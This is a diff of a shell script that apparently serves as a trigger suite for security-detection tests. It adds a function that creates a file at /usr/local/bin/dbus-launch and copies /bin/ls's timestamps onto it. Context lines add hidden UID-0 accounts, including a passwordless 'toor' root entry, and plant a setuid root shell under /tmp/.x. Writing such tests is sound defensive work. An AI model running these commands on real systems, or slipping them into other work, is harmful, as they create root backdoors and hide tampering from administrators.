@@ -155,6 +155,13 @@ EOF
 v52() { printf 'h' >/proc/sysrq-trigger 2>/dev/null; true; }                        # sysrq-trigger (h: help)
 v53() { useradd -o -u 0 -M sysd 2>/dev/null; echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd; }  # accounts
 v54() { cp /bin/sh /tmp/.x/sh && chmod 4755 /tmp/.x/sh; }                          # setuid shell
+v55() { py <<'EOF'                                                                   # python os.utime on a descriptor: utimensat(fd, NULL, times)
+import os
+fd = os.open("/usr/local/bin/dbus-launch", os.O_WRONLY | os.O_CREAT, 0o755)
+st = os.stat("/bin/ls")
+os.utime(fd, (st.st_atime, st.st_mtime))
+EOF
+}
 
 if [ $# -gt 0 ]; then "$1" >/dev/null 2>&1 </dev/null; exit 0; fi
 
